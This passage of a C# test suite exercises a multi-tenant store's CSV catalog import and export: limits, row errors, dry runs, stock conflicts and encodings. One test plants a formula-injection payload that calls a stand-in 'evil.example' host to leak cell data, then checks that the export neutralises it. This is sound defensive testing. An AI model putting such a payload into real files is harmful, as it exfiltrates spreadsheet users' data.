using System.Diagnostics;
using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using Microsoft.Extensions.DependencyInjection;
using MultiStore.Grains.Catalog;
using MultiStore.Grains.Interfaces.Common;
using MultiStore.Grains.Interfaces.Stock;
using MultiStore.Grains.Interfaces.Tenancy;
using Xunit.Abstractions;

namespace MultiStore.Api.Tests.Catalog;

/// <summary>
/// Bulk import and export of the catalog as CSV: streaming, all-or-nothing with row-numbered errors, the store taken
/// from the host only, and the same format both ways.
/// </summary>
[Collection(ApiCollection.Name)]
public sealed class CatalogImportTests(ApiFactory api, ITestOutputHelper output)
{
    private const string Header = "handle,name,category,price,status,attributes,sku,zone,on_hand,safety_stock,on_hand_basis,safety_stock_basis";

    [Fact]
    public async Task Import_5000Rows_ImportsProductsVariantsAndStockWellUnderAMinute()
    {
        var store = await StoreDriver.OnboardAsync(api, "imp-big");
        await store.Owner.PutJsonAsync("/admin/zones/east", new { name = "East" }).ExpectAsync(HttpStatusCode.OK);
        var csv = new StringBuilder(Header).Append('\n');
        string[] colors = ["Black", "White", "Red", "Blue", "Green"];
        for (var product = 0; product < 1000; product++)
        {
            foreach (var color in colors)
            {
                csv.Append($"item-{product:D4},Item {product},Category {product % 20},{10 + (product % 90)}.50,active,color={color};size=M,,{(product % 2 == 0 ? "main" : "east")},{product % 50 + 1},\n");
            }
        }

        Assert.True(csv.Length > 64 * 1024, "the file is larger than the API-wide body limit");
        var clock = Stopwatch.StartNew();
        var result = await store.Owner.PostAsync("/admin/catalog/import", Csv(csv.ToString())).ExpectAsync(HttpStatusCode.OK);
        clock.Stop();
        output.WriteLine($"5,000 rows ({csv.Length / 1024} KiB): {clock.ElapsedMilliseconds} ms end to end, {result.Value<long>("elapsedMs")} ms in the endpoint");

        Assert.Equal(5000, result.Value<int>("rows"));
        Assert.Equal(1000, result.Value<int>("productsCreated"));
        Assert.Equal(5000, result.Value<int>("variantsCreated"));
        Assert.Equal(5000, result.Value<int>("stockCountsApplied"));
        Assert.Empty(result["stockErrors"]!.AsArray());
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(30), $"took {clock.Elapsed}");
        var product7 = await store.ProductAsync("item-0007");
        var sku = product7["variants"]![2]!.Value<string>("sku");
        var levels = await store.StockAsync(sku);
        Assert.Equal("east", levels["zones"]![0]!.Value<string>("zone"));
        Assert.Equal(8, levels["zones"]![0]!.Value<int>("onHand"));
    }

    [Fact]
    public async Task Import_OneHandleWithMoreVariantsThanAProductMayHave_IsRefusedAtTheRowThatPassesTheLimit()
    {
        // The shape of a file that once froze a store's catalog: one handle, thousands of variants.
        var store = await StoreDriver.OnboardAsync(api, "imp-many");
        var csv = new StringBuilder(Header).Append("\nbig,Big,Misc,1.00,,size=1,,,,\n");
        for (var size = 2; size <= 5000; size++)
        {
            csv.Append($"big,,,,,size={size},,,,\n");
        }

        var problem = await store.Owner.PostAsync("/admin/catalog/import", Csv(csv.ToString())).ExpectProblemAsync(HttpStatusCode.UnprocessableEntity, "invalid-import");

        var error = Assert.Single(problem["errors"]!.AsArray())!;
        // Row 1 is the header, so the variant past the limit (size=101) is on row 102.
        Assert.Equal((CatalogRules.MaxVariants + 2, "attributes"), (error.Value<int>("row"), error.Value<string>("column")));
        Assert.Equal(CatalogRules.MaxVariantsRule, error.Value<string>("message"));
        await store.Owner.GetAsync("/admin/products/big").ExpectProblemAsync(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task Import_OneHandleAtTheVariantLimit_EachInTwoZones_ImportsEveryVariantAndCount()
    {
        // More rows than a product may have variants, but one variant takes a row per zone.
        var store = await StoreDriver.OnboardAsync(api, "imp-limit");
        await store.Owner.PutJsonAsync("/admin/zones/east", new { name = "East" }).ExpectAsync(HttpStatusCode.OK);
        var csv = new StringBuilder(Header).Append('\n');
        for (var size = 1; size <= CatalogRules.MaxVariants; size++)
        {
            csv.Append($"full,Full,Misc,1.00,,size={size},,main,{size},\n").Append($"full,,,,,SIZE={size} ,,east,1,\n");
        }

        var result = await store.Owner.PostAsync("/admin/catalog/import", Csv(csv.ToString())).ExpectAsync(HttpStatusCode.OK);

        Assert.Equal((1, CatalogRules.MaxVariants, 2 * CatalogRules.MaxVariants), (result.Value<int>("productsCreated"), result.Value<int>("variantsCreated"), result.Value<int>("stockCountsApplied")));
        Assert.Equal(CatalogRules.MaxVariants, (await store.ProductAsync("full"))["variants"]!.AsArray().Count);
    }

    [Fact]
    public async Task Import_5000CategoriesSharingACodeStem_GivesEachItsOwnCode()
    {
        var store = await StoreDriver.OnboardAsync(api, "imp-cats");
        var csv = new StringBuilder("handle,name,category,price\n");
        for (var number = 1; number <= 5000; number++)
        {
            csv.Append($"p-{number},Product {number},Miscellaneous {number},1.00\n");
        }

        var result = await store.Owner.PostAsync("/admin/catalog/import", Csv(csv.ToString())).ExpectAsync(HttpStatusCode.OK);

        Assert.Equal(5000, result.Value<int>("productsCreated"));
        // Every name cleans to the stem MISCEL: the first keeps it, the rest are numbered in order.
        string[] codes = [.. await Task.WhenAll(new[] { 1, 2, 10, 100, 1000, 5000 }.Select(async number => (await store.ProductAsync($"p-{number}")).Value<string>("code")!.Split('-')[1]))];
        Assert.Equal(["MISCEL", "MISCE2", "MISC10", "MIS100", "MI1000", "MI5000"], codes);
    }

    [Theory]
    [InlineData("store")]
    [InlineData("tenant_id")]
    [InlineData("Shop")]
    public async Task Import_ColumnNamingAStore_IsRefusedAndChangesNoStore(string column)
    {
        var store = await StoreDriver.OnboardAsync(api, "imp-own");
        var other = await StoreDriver.OnboardAsync(api, "imp-other");
        var before = await ExportAsync(store) + await ExportAsync(other);
        var csv = $"{column},handle,name,category,price,on_hand\n{other.TenantId},smuggled,Smuggled,Misc,1.00,5\n";

        var problem = await store.Owner.PostAsync("/admin/catalog/import", Csv(csv)).ExpectProblemAsync(HttpStatusCode.UnprocessableEntity, "store-column-refused");

        Assert.Contains(column, problem.Value<string>("detail"), StringComparison.Ordinal);
        Assert.Equal(before, await ExportAsync(store) + await ExportAsync(other));
        await store.Owner.GetAsync("/admin/products/smuggled").ExpectProblemAsync(HttpStatusCode.NotFound);
        await other.Owner.GetAsync("/admin/products/smuggled").ExpectProblemAsync(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task Import_AnotherStoresSku_IsARowErrorAndImportsNothing()
    {
        var store = await StoreDriver.OnboardAsync(api, "imp-sku");
        var other = await StoreDriver.OnboardAsync(api, "imp-sku2");
        var foreignSku = (await other.ProductAsync(await other.NewProductAsync()))["variants"]![0]!.Value<string>("sku");
        var csv = $"{Header}\nfine,Fine,Misc,1.00,,,,main,3,\ntaken,Taken,Misc,1.00,,color=Black,{foreignSku},main,3,\n";

        var problem = await store.Owner.PostAsync("/admin/catalog/import", Csv(csv)).ExpectProblemAsync(HttpStatusCode.UnprocessableEntity, "invalid-import");

        var error = Assert.Single(problem["errors"]!.AsArray())!;
        Assert.Equal(3, error!.Value<int>("row"));
        Assert.Equal("sku", error!.Value<string>("column"));
        await store.Owner.GetAsync("/admin/products/fine").ExpectProblemAsync(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task Import_ItsOwnSkuInAnotherLetterCase_IsARowErrorNamingTheSpellingItWasIssuedIn()
    {
        var store = await StoreDriver.OnboardAsync(api, "imp-skucase");
        var handle = await store.NewProductAsync();
        var sku = (await store.ProductAsync(handle))["variants"]![0]!.Value<string>("sku")!;
        var csv = $"{Header}\n{handle},,,,,color=Black,{sku.ToLowerInvariant()},main,5,\n";

        var problem = await store.Owner.PostAsync("/admin/catalog/import", Csv(csv)).ExpectProblemAsync(HttpStatusCode.UnprocessableEntity, "invalid-import");

        var error = Assert.Single(problem["errors"]!.AsArray())!;
        Assert.Equal((2, "sku"), (error.Value<int>("row"), error.Value<string>("column")));
        Assert.Contains($"issued as {sku}", error.Value<string>("message"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Import_BadRows_ReportsEveryRowWithItsNumberAndImportsNothing()
    {
        var store = await StoreDriver.OnboardAsync(api, "imp-bad");
        var csv = string.Join('\n',
            Header,
            "ok-one,One,Misc,1.00,,,,,,",
            "Bad Handle,Two,Misc,1.00,,,,,,",
            "ok-three,Three,Misc,1.999,,,,,,",
            "ok-four,Four,Misc,1.00,deleted,,,,,",
            "ok-five,Five,Misc,1.00,,color,,,,",
            "ok-six,Six,Misc,1.00,,,,nowhere,3,",
            "ok-seven,Seven,Misc,1.00,,,,,-3,",
            "ok-one,Other name,Misc,1.00,,size=L,,,,",
            "ok-nine,,Misc,1.00,,,,,,") + "\n";

        var problem = await store.Owner.PostAsync("/admin/catalog/import", Csv(csv)).ExpectProblemAsync(HttpStatusCode.UnprocessableEntity, "invalid-import");

        var rows = problem["errors"]!.AsArray().Select(error => error!.Value<int>("row")).ToList();
        Assert.Equal([3, 4, 5, 6, 7, 8, 9], rows.Distinct());
        var export = await ExportAsync(store);
        Assert.Equal(Header, export.Trim());
    }

    [Theory]
    [InlineData("?dryRun=1", "invalid-request")]
    [InlineData("?dryRun=yes", "invalid-request")]
    [InlineData("?dryRun=", "invalid-request")]
    [InlineData("?dryRun=true&dryRun=true", "duplicate-query-parameter")]
    public async Task Import_WithADryRunThatIsNotOneTrueOrFalse_IsRefusedAndChangesNothing(string query, string code)
    {
        var store = StoreDriver.FiberX(api);
        var handle = $"dry-{Guid.NewGuid():N}"[..16];

        await store.Owner.PostAsync("/admin/catalog/import" + query, Csv($"{Header}\n{handle},Dry,Misc,1.00,,,,,2,\n"))
            .ExpectProblemAsync(HttpStatusCode.BadRequest, code);

        await store.Owner.GetAsync($"/admin/products/{handle}").ExpectProblemAsync(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task Import_DryRun_ChecksButChangesNothing()
    {
        var store = await StoreDriver.OnboardAsync(api, "imp-dry");

        var result = await store.Owner.PostAsync("/admin/catalog/import?dryRun=true", Csv($"{Header}\ndry,Dry,Misc,1.00,,,,,2,\n")).ExpectAsync(HttpStatusCode.OK);

        Assert.True(result.Value<bool>("dryRun"));
        Assert.Equal((1, 1, 0), (result.Value<int>("productsCreated"), result.Value<int>("variantsCreated"), result.Value<int>("stockCountsApplied")));
        await store.Owner.GetAsync("/admin/products/dry").ExpectProblemAsync(HttpStatusCode.NotFound);
    }

    [Theory]
    [InlineData("nameless,,Misc,1.00,,,,,,")]
    [InlineData("bad-attr,Bad attribute,Misc,1.00,,Color!=Red,,,,")]
    [InlineData("strange-sku,Strange SKU,Misc,1.00,,color=Red,NEVER-ISSUED-1,,,")]
    public async Task Import_DryRun_RefusesWhatTheImportRefuses_WithTheSameErrors(string row)
    {
        var store = await StoreDriver.OnboardAsync(api, "imp-dry-bad");
        var csv = $"{Header}\n{row}\n";

        var dry = await store.Owner.PostAsync("/admin/catalog/import?dryRun=true", Csv(csv)).ExpectProblemAsync(HttpStatusCode.UnprocessableEntity, "invalid-import");
        var real = await store.Owner.PostAsync("/admin/catalog/import", Csv(csv)).ExpectProblemAsync(HttpStatusCode.UnprocessableEntity, "invalid-import");

        Assert.Equal(real["errors"]!.ToJsonString(), dry["errors"]!.ToJsonString());
        Assert.Equal(Header, (await ExportAsync(store)).Trim());
    }

    [Fact]
    public async Task Import_DryRun_ReportsTheStockRowsTheImportWouldRefuse_AndChangesNoStock()
    {
        // Black: counted 15 against the 10 exported, then 4 sold. White: counted 2 while a cart holds 4 of its 5.
        var (store, handle, black) = await StockedProductAsync("imp-dry-stock", 10);
        var white = (await store.ProductAsync(handle))["variants"]![1]!.Value<string>("sku")!;
        await store.SetStockAsync(white, 5);
        var exported = await ExportAsync(store);
        await SellAsync(store, black, 4);
        await store.NewCartAsync(white, 4);
        var edited = EditCount(EditCount(exported, black, 10, 15), white, 5, 2);
        var ledgers = (await LedgerAsync(store, black)).ToJsonString() + (await LedgerAsync(store, white)).ToJsonString();

        var dry = await store.Owner.PostAsync("/admin/catalog/import?dryRun=true", Csv(edited)).ExpectAsync(HttpStatusCode.OK);

        Assert.True(dry.Value<bool>("dryRun"));
        var errors = dry["stockErrors"]!.AsArray();
        Assert.Equal(
            [(RowOf(edited, black), "stock-changed"), (RowOf(edited, white), "on-hand-below-reserved")],
            errors.Select(error => (error!.Value<int>("row"), error!.Value<string>("code"))).OrderBy(error => error.Item1));
        Assert.Equal(0, dry.Value<int>("stockCountsApplied"));
        Assert.Equal((6, 0, 6), await LevelAsync(store, black));
        Assert.Equal((5, 4, 1), await LevelAsync(store, white));
        Assert.Equal(ledgers, (await LedgerAsync(store, black)).ToJsonString() + (await LedgerAsync(store, white)).ToJsonString());

        var real = await store.Owner.PostAsync("/admin/catalog/import", Csv(edited)).ExpectAsync(HttpStatusCode.OK);

        Assert.Equal(real["stockErrors"]!.ToJsonString(), dry["stockErrors"]!.ToJsonString());
    }

    [Fact]
    public async Task Import_DryRun_OfCountsTheImportWouldApply_ReportsNoStockError()
    {
        // A new product's counts (entries never stocked), an unedited export after a sale, and a count with no basis.
        var (store, _, sku) = await StockedProductAsync("imp-dry-ok", 10);
        var exported = await ExportAsync(store);
        await SellAsync(store, sku, 4);
        var csv = exported + $"dry-new,Dry new,Misc,1.00,,,,,3,1,0,0\r\ndry-abs,Dry absolute,Misc,1.00,,,,,5,,,\r\n";

        var dry = await store.Owner.PostAsync("/admin/catalog/import?dryRun=true", Csv(csv)).ExpectAsync(HttpStatusCode.OK);

        Assert.Empty(dry["stockErrors"]!.AsArray());
        Assert.Equal(2, dry.Value<int>("productsCreated"));
        Assert.Equal((6, 0, 6), await LevelAsync(store, sku));
    }

    [Fact]
    public async Task ExportThenImport_SameFormat_ChangesNothing()
    {
        var store = await StoreDriver.OnboardAsync(api, "imp-trip");
        var handle = await store.NewProductAsync();
        var skus = (await store.ProductAsync(handle))["variants"]!.AsArray().Select(variant => variant!.Value<string>("sku")).ToList();
        await store.SetStockAsync(skus[0], 7, safetyStock: 1);
        var exported = await ExportAsync(store);

        var result = await store.Owner.PostAsync("/admin/catalog/import", Csv(exported)).ExpectAsync(HttpStatusCode.OK);

        Assert.Contains($"{handle},Tee {handle},Tees,25.00,active,color=Black,{skus[0]},main,7,1,7,1\r\n", exported, StringComparison.Ordinal);
        Assert.Contains($"{handle},Tee {handle},Tees,25.00,active,color=White,{skus[1]},,,,,\r\n", exported, StringComparison.Ordinal);
        Assert.Equal((0, 0, 0), (result.Value<int>("productsCreated"), result.Value<int>("productsUpdated"), result.Value<int>("variantsCreated")));
        Assert.Equal(exported, await ExportAsync(store));
    }

    [Fact]
    public async Task ExportThenImport_Unedited_WritesNoLedgerLine()
    {
        // Each stock row of an unedited export changes nothing: no zero line in any entry's history.
        var (store, _, sku) = await StockedProductAsync("imp-noop", 10);
        await store.SetStockAsync(sku, 10, safetyStock: 2);
        var exported = await ExportAsync(store);
        await SellAsync(store, sku, 3);
        var before = await LedgerAsync(store, sku);

        var result = await store.Owner.PostAsync("/admin/catalog/import", Csv(exported)).ExpectAsync(HttpStatusCode.OK);

        Assert.Empty(result["stockErrors"]!.AsArray());
        Assert.Equal(1, result.Value<int>("stockCountsApplied"));
        Assert.Equal(3, before.AsArray().Count);
        Assert.Equal(before.ToJsonString(), (await LedgerAsync(store, sku)).ToJsonString());
        Assert.Equal((7, 0, 5), await LevelAsync(store, sku));
    }

    [Fact]
    public async Task ExportThenImport_SafetyStockChangedSinceTheExport_IsKeptUnlessEdited_AndAnEditedOneIsRefused()
    {
        var (store, _, sku) = await StockedProductAsync("imp-safety", 10);
        await store.SetStockAsync(sku, 10, safetyStock: 2);
        var exported = await ExportAsync(store);
        await store.SetStockAsync(sku, 10, safetyStock: 5);
        var row = $",{sku},main,10,2,10,2\r\n";
        var edited = exported.Replace(row, $",{sku},main,10,3,10,2\r\n", StringComparison.Ordinal);

        var unedited = await store.Owner.PostAsync("/admin/catalog/import", Csv(exported)).ExpectAsync(HttpStatusCode.OK);
        var refused = await store.Owner.PostAsync("/admin/catalog/import", Csv(edited)).ExpectAsync(HttpStatusCode.OK);

        Assert.Contains(row, exported, StringComparison.Ordinal);
        Assert.Empty(unedited["stockErrors"]!.AsArray());
        var error = Assert.Single(refused["stockErrors"]!.AsArray())!;
        Assert.Equal("stock-changed", error.Value<string>("code"));
        Assert.Contains("safety stock is now 5, not 2", error.Value<string>("message"), StringComparison.Ordinal);
        Assert.Equal((10, 0, 5), await LevelAsync(store, sku));
    }

    [Fact]
    public async Task Import_AFileWithoutASafetyStockBasis_SetsTheSafetyStockAsGiven()
    {
        // An export from before the column: its safety stock is the admin's, changed since or not.
        var (store, _, sku) = await StockedProductAsync("imp-safety-old", 10);
        var exported = await ExportAsync(store);
        await store.SetStockAsync(sku, 10, safetyStock: 5);
        var withoutBasis = string.Concat(exported.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Select(line => line[..line.LastIndexOf(',')] + "\r\n"));

        var result = await store.Owner.PostAsync("/admin/catalog/import", Csv(withoutBasis)).ExpectAsync(HttpStatusCode.OK);

        Assert.StartsWith(Header[..Header.LastIndexOf(',')] + "\r\n", withoutBasis, StringComparison.Ordinal);
        Assert.Empty(result["stockErrors"]!.AsArray());
        Assert.Equal((10, 0, 10), await LevelAsync(store, sku));
    }

    [Fact]
    public async Task ExportThenImport_WithAPriceFixedAfterASale_KeepsTheUnitsSold()
    {
        // The everyday round trip: export, sell, fix a price in the spreadsheet, import the file again.
        var (store, handle, sku) = await StockedProductAsync("imp-sold", 10);
        var exported = await ExportAsync(store);
        await SellAsync(store, sku, 4);

        var result = await store.Owner.PostAsync("/admin/catalog/import", Csv(exported.Replace(",25.00,", ",27.50,", StringComparison.Ordinal))).ExpectAsync(HttpStatusCode.OK);

        Assert.Empty(result["stockErrors"]!.AsArray());
        Assert.Equal(1, result.Value<int>("productsUpdated"));
        Assert.Equal(27.50m, (await store.ProductAsync(handle)).Value<decimal>("price"));
        Assert.Equal((6, 0, 6), await LevelAsync(store, sku));
    }

    [Fact]
    public async Task ExportThenImport_CountEditedAfterASale_IsListedUnderStockErrorsAndChangesNoStock()
    {
        var (store, _, sku) = await StockedProductAsync("imp-moved", 10);
        var exported = await ExportAsync(store);
        await SellAsync(store, sku, 4);
        var edited = EditCount(exported, sku, 10, 15);

        var result = await store.Owner.PostAsync("/admin/catalog/import", Csv(edited)).ExpectAsync(HttpStatusCode.OK);

        var error = Assert.Single(result["stockErrors"]!.AsArray())!;
        Assert.Equal((RowOf(edited, sku), "on_hand", "stock-changed"), (error.Value<int>("row"), error.Value<string>("column"), error.Value<string>("code")));
        Assert.Contains("on hand is now 6", error.Value<string>("message"), StringComparison.Ordinal);
        Assert.Equal(0, result.Value<int>("stockCountsApplied"));
        Assert.Equal((6, 0, 6), await LevelAsync(store, sku));
    }

    [Fact]
    public async Task ExportThenImport_CountEditedWithNoSaleSince_IsApplied()
    {
        var (store, _, sku) = await StockedProductAsync("imp-recount", 10);
        var exported = await ExportAsync(store);

        var result = await store.Owner.PostAsync("/admin/catalog/import", Csv(EditCount(exported, sku, 10, 15))).ExpectAsync(HttpStatusCode.OK);

        Assert.Empty(result["stockErrors"]!.AsArray());
        Assert.Equal(1, result.Value<int>("stockCountsApplied"));
        Assert.Equal((15, 0, 15), await LevelAsync(store, sku));
    }

    [Fact]
    public async Task Import_AFileWithoutAnOnHandBasis_SetsAbsoluteCountsAsBefore()
    {
        // An export from before the column, or a hand-made file: its counts are the admin's, sales or not.
        var (store, _, sku) = await StockedProductAsync("imp-absolute", 10);
        var exported = await ExportAsync(store);
        await SellAsync(store, sku, 4);
        var withoutBasis = string.Concat(exported.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Select(line => string.Join(',', line.Split(',')[..^2]) + "\r\n"));

        var result = await store.Owner.PostAsync("/admin/catalog/import", Csv(withoutBasis)).ExpectAsync(HttpStatusCode.OK);

        Assert.StartsWith("handle,name,category,price,status,attributes,sku,zone,on_hand,safety_stock\r\n", withoutBasis, StringComparison.Ordinal);
        Assert.Empty(result["stockErrors"]!.AsArray());
        Assert.Equal((10, 0, 10), await LevelAsync(store, sku));
    }

    [Fact]
    public async Task ExportThenImport_StockInAZoneTheWarehouseDoesNotList_ChangesNothing_ButANewSkuThereIsRefused()
    {
        // An earlier release's PUT /admin/stock took any zone; the warehouse lists only main. The export writes "east" all the same.
        var store = await StoreDriver.OnboardAsync(api, "imp-zone");
        var handle = await store.NewProductAsync();
        var skus = (await store.ProductAsync(handle))["variants"]!.AsArray().Select(variant => variant!.Value<string>("sku")!).ToList();
        await store.SetStockAsync(skus[0], 7);
        await store.StockUnlistedZoneAsync(skus[0], "east", 3, safetyStock: 1);
        var exported = await ExportAsync(store);
        var levels = (await store.StockAsync(skus[0])).ToJsonString();

        var result = await store.Owner.PostAsync("/admin/catalog/import", Csv(exported)).ExpectAsync(HttpStatusCode.OK);

        Assert.Contains($",{skus[0]},east,3,1,3,1\r\n", exported, StringComparison.Ordinal);
        Assert.Equal((0, 2), (result.Value<int>("productsUpdated"), result.Value<int>("stockCountsApplied")));
        Assert.Equal(exported, await ExportAsync(store));
        Assert.Equal(levels, (await store.StockAsync(skus[0])).ToJsonString());

        // The other variant was never stocked in east: the zone must still be added to the warehouse first.
        var csv = $"{Header}\n{handle},,,,,color=White,{skus[1]},east,5,\n";
        var problem = await store.Owner.PostAsync("/admin/catalog/import", Csv(csv)).ExpectProblemAsync(HttpStatusCode.UnprocessableEntity, "invalid-import");
        var error = Assert.Single(problem["errors"]!.AsArray())!;
        Assert.Equal((2, "zone"), (error.Value<int>("row"), error.Value<string>("column")));
        Assert.Equal(exported, await ExportAsync(store));
    }

    [Fact]
    public async Task Import_InAZoneTheWarehouseDoesNotList_WhereTheSkuIsListedButWasNeverStocked_IsARowError()
    {
        // A PUT /admin/stock whose entry failed after the SKU listed the zone leaves it listed, never stocked.
        var store = await StoreDriver.OnboardAsync(api, "imp-halfzone");
        var handle = await store.NewProductAsync();
        var sku = (await store.ProductAsync(handle))["variants"]![0]!.Value<string>("sku")!;
        var grains = api.Services.GetRequiredService<IGrainFactory>();
        var tenant = TenantId.Parse(store.TenantId);
        using (TenantContext.ForTenant(tenant, "test:failed-put"))
        {
            await grains.GetGrainByKey<ISkuGrain>(TenantKey.For(tenant, sku)).AddZoneAsync("east");
        }

        var csv = $"{Header}\n{handle},,,,,color=Black,{sku},east,5,\n";
        var problem = await store.Owner.PostAsync("/admin/catalog/import", Csv(csv)).ExpectProblemAsync(HttpStatusCode.UnprocessableEntity, "invalid-import");

        Assert.Equal((2, "zone"), (problem["errors"]![0]!.Value<int>("row"), problem["errors"]![0]!.Value<string>("column")));
        await store.Owner.GetAsync($"/admin/stock/{sku}").ExpectProblemAsync(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task Export_TextThatASpreadsheetWouldRunAsAFormula_IsPrefixedAndImportsBackUnchanged()
    {
        var store = await StoreDriver.OnboardAsync(api, "imp-formula");
        string[] names = ["=1+1", "+x", "-x", "@x", "'90s tee", "''x", "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Open\")", "Plain tee"];
        for (var index = 0; index < names.Length; index++)
        {
            await store.Owner.PostJsonAsync("/admin/products", new
            {
                handle = $"f-{index}",
                name = names[index],
                category = index == 0 ? "@SUM(A1:A9)" : "Tees",
                price = 5m,
                variants = new[] { new { attributes = new { size = index == 0 ? "-1" : "M" } } },
            }).ExpectAsync(HttpStatusCode.Created);
        }

        var exported = await ExportAsync(store);
        var result = await store.Owner.PostAsync("/admin/catalog/import", Csv(exported)).ExpectAsync(HttpStatusCode.OK);

        Assert.Contains("f-0,'=1+1,'@SUM(A1:A9),5.00,active,size=-1,", exported, StringComparison.Ordinal);
        Assert.Contains("f-1,'+x,Tees,", exported, StringComparison.Ordinal);
        Assert.Contains("f-2,'-x,Tees,", exported, StringComparison.Ordinal);
        Assert.Contains("f-3,'@x,Tees,", exported, StringComparison.Ordinal);
        Assert.Contains("f-4,''90s tee,Tees,", exported, StringComparison.Ordinal);
        Assert.Contains("f-5,'''x,Tees,", exported, StringComparison.Ordinal);
        Assert.Contains("f-6,\"'=HYPERLINK(", exported, StringComparison.Ordinal);
        Assert.Contains("f-7,Plain tee,Tees,", exported, StringComparison.Ordinal);
        Assert.Equal((0, 0, 0), (result.Value<int>("productsCreated"), result.Value<int>("productsUpdated"), result.Value<int>("variantsCreated")));
        Assert.Equal(exported, await ExportAsync(store));
        for (var index = 0; index < names.Length; index++)
        {
            Assert.Equal(names[index], (await store.ProductAsync($"f-{index}")).Value<string>("name"));
        }

        Assert.Equal("@SUM(A1:A9)", (await store.ProductAsync("f-0")).Value<string>("category"));
    }

    [Fact]
    public async Task Import_TextWithALeadingQuote_LosesExactlyThatQuote()
    {
        // What the export writes for text a spreadsheet would run, and what a spreadsheet shows as plain text.
        var store = await StoreDriver.OnboardAsync(api, "imp-quoted");
        var csv = "handle,name,category,price,attributes\nq-one,'=1+1,'Tees,1.00,'size=M\nq-two,''x,Tees,1.00,\n";

        await store.Owner.PostAsync("/admin/catalog/import", Csv(csv)).ExpectAsync(HttpStatusCode.OK);

        var one = await store.ProductAsync("q-one");
        Assert.Equal(("=1+1", "Tees", "M"), (one.Value<string>("name"), one.Value<string>("category"), one["variants"]![0]!["attributes"]!.Value<string>("size")));
        Assert.Equal("'x", (await store.ProductAsync("q-two")).Value<string>("name"));
    }

    [Fact]
    public async Task Import_QuotedFieldsAndWindowsLineEnds_AreRead()
    {
        var store = await StoreDriver.OnboardAsync(api, "imp-quote");
        var csv = "handle,name,category,price\r\nquoted,\"Tee, \"\"classic\"\"\",Tops,9.00\r\n";

        await store.Owner.PostAsync("/admin/catalog/import", Csv(csv)).ExpectAsync(HttpStatusCode.OK);

        Assert.Equal("Tee, \"classic\"", (await store.ProductAsync("quoted")).Value<string>("name"));
    }

    [Fact]
    public async Task Import_OnePriceWrittenTwoWays_IsOnePrice()
    {
        var store = await StoreDriver.OnboardAsync(api, "imp-price");
        var csv = $"{Header}\ntwo-ways,Two ways,Misc,10.00,,color=Black,,,,\ntwo-ways,,,10,,color=White,,,,\n";

        await store.Owner.PostAsync("/admin/catalog/import", Csv(csv)).ExpectAsync(HttpStatusCode.OK);

        var product = await store.ProductAsync("two-ways");
        Assert.Equal(10m, product.Value<decimal>("price"));
        Assert.Equal(2, product["variants"]!.AsArray().Count);
    }

    [Fact]
    public async Task Import_APriceWithMoreDigitsThanADecimalHolds_IsARowErrorAndImportsNothing()
    {
        // 9.99… with thirty nines reads as 10.000…0, which passed as a price of 10.
        var store = await StoreDriver.OnboardAsync(api, "imp-digits");
        var csv = $"{Header}\nlong-tail,Long tail,Misc,9.{new string('9', 30)},,,,,,\n";

        var problem = await store.Owner.PostAsync("/admin/catalog/import", Csv(csv)).ExpectProblemAsync(HttpStatusCode.UnprocessableEntity, "invalid-import");

        var error = Assert.Single(problem["errors"]!.AsArray())!;
        Assert.Equal((2, "price"), (error.Value<int>("row"), error.Value<string>("column")));
        Assert.Equal(Header, (await ExportAsync(store)).Trim());
    }

    [Fact]
    public async Task Import_OneVariantCountedTwiceInAZone_WrittenTwoWays_IsARowError()
    {
        // "Café" composed and decomposed, in two cases: one variant to the catalog, so two counts of it in one zone.
        var store = await StoreDriver.OnboardAsync(api, "imp-twice");
        var csv = $"{Header}\ncafe,Cafe,Misc,3.00,,flavour=Caf\u00e9,,main,5,\ncafe,,,,,flavour=CAFE\u0301,,main,9,\n";

        var problem = await store.Owner.PostAsync("/admin/catalog/import", Csv(csv)).ExpectProblemAsync(HttpStatusCode.UnprocessableEntity, "invalid-import");

        var error = Assert.Single(problem["errors"]!.AsArray())!;
        Assert.Equal((3, "zone"), (error.Value<int>("row"), error.Value<string>("column")));
        Assert.Equal(Header, (await ExportAsync(store)).Trim());
    }

    [Fact]
    public async Task Import_NotCsv_Returns415()
    {
        var store = await StoreDriver.OnboardAsync(api, "imp-json");

        await store.Owner.PostAsync("/admin/catalog/import", Http.Json(new { handle = "x" })).ExpectProblemAsync(HttpStatusCode.UnsupportedMediaType);
    }

    [Fact]
    public async Task Import_BytesThatAreNotUtf8_AreRefusedAndChangeNothing()
    {
        var store = await StoreDriver.OnboardAsync(api, "imp-latin");
        var latin1 = Encoding.Latin1.GetBytes("handle,name,category,price,attributes\nmug,Cr\u00e8me mug,Misc,3.00,color=Cr\u00e8me\n");
        using var content = new ByteArrayContent(latin1);
        content.Headers.ContentType = new("text/csv");

        var problem = await store.Owner.PostAsync("/admin/catalog/import", content).ExpectProblemAsync(HttpStatusCode.UnprocessableEntity, "invalid-import");

        Assert.Contains("UTF-8", problem.Value<string>("detail"), StringComparison.Ordinal);
        await store.Owner.GetAsync("/admin/products/mug").ExpectProblemAsync(HttpStatusCode.NotFound);
    }

    [Theory]
    [InlineData("windows-1252")]
    [InlineData("iso-8859-1")]
    [InlineData("utf-16")]
    public async Task Import_DeclaredInAnotherCharset_Returns415AndChangesNothing(string charset)
    {
        var store = await StoreDriver.OnboardAsync(api, "imp-charset");
        using var content = new ByteArrayContent(Encoding.UTF8.GetBytes("handle,name,category,price\nmug,Mug,Misc,3.00\n"));
        content.Headers.ContentType = new("text/csv") { CharSet = charset };

        await store.Owner.PostAsync("/admin/catalog/import", content).ExpectProblemAsync(HttpStatusCode.UnsupportedMediaType);

        await store.Owner.GetAsync("/admin/products/mug").ExpectProblemAsync(HttpStatusCode.NotFound);
    }

    private static StringContent Csv(string csv) => new(csv, Encoding.UTF8, "text/csv");

    /// <summary>A new store with a new product whose first variant is stocked in main.</summary>
    private async Task<(StoreDriver Store, string Handle, string Sku)> StockedProductAsync(string prefix, int onHand)
    {
        var store = await StoreDriver.OnboardAsync(api, prefix);
        var handle = await store.NewProductAsync();
        var sku = (await store.ProductAsync(handle))["variants"]![0]!.Value<string>("sku")!;
        await store.SetStockAsync(sku, onHand);
